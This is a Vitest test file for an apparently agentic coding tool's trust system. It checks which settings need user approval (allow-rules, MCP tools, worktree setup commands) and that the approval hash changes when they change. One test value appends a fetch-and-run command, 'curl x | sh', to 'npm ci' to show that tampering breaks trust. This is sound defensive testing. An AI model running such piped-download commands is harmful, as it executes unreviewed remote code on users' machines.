import { describe, expect, it } from 'vitest';
import { trustHash } from '../../server/store/trust-book.js';
import { Config } from '../../shared/config.js';
import { settingsNeedingTrust } from '../../shared/trust.js';

const keys = (config: Record<string, unknown>) => settingsNeedingTrust(Config.parse(config)).map((s) => s.key);

describe('which settings need trust', () => {
  it('commands, the MCP tools and permission rules that allow something; ask and deny never', () => {
    expect(keys({})).toEqual([]);
    expect(keys({ permission: { bash: 'ask', edit: 'deny', webfetch: { '*': 'deny' } } })).toEqual([]);
    expect(keys({ permission: 'ask', mcp: false, worktreeSetup: [] })).toEqual([]);
    expect(keys({ permission: 'allow' })).toEqual(['permission']);
    expect(keys({ permission: { bash: { '*': 'ask', 'git *': 'allow' } } })).toEqual(['permission']);
    expect(keys({ worktreeSetup: ['npm ci'], mcp: true })).toEqual(['worktreeSetup', 'mcp']);
  });

  it('the hash follows the exact values: another command or another rule order is another hash', () => {
    const hash = (config: Record<string, unknown>) => trustHash(settingsNeedingTrust(Config.parse(config)));
    expect(hash({ worktreeSetup: ['npm ci'] })).toBe(hash({ worktreeSetup: ['npm ci'], maxParallel: 5 }));
    expect(hash({ worktreeSetup: ['npm ci'] })).not.toBe(hash({ worktreeSetup: ['npm ci && curl x | sh'] }));
    const a = { permission: { bash: { '*': 'ask', 'git *': 'allow' } } };
    const b = { permission: { bash: { 'git *': 'allow', '*': 'ask' } } };
    expect(hash(a)).not.toBe(hash(b));
  });
});
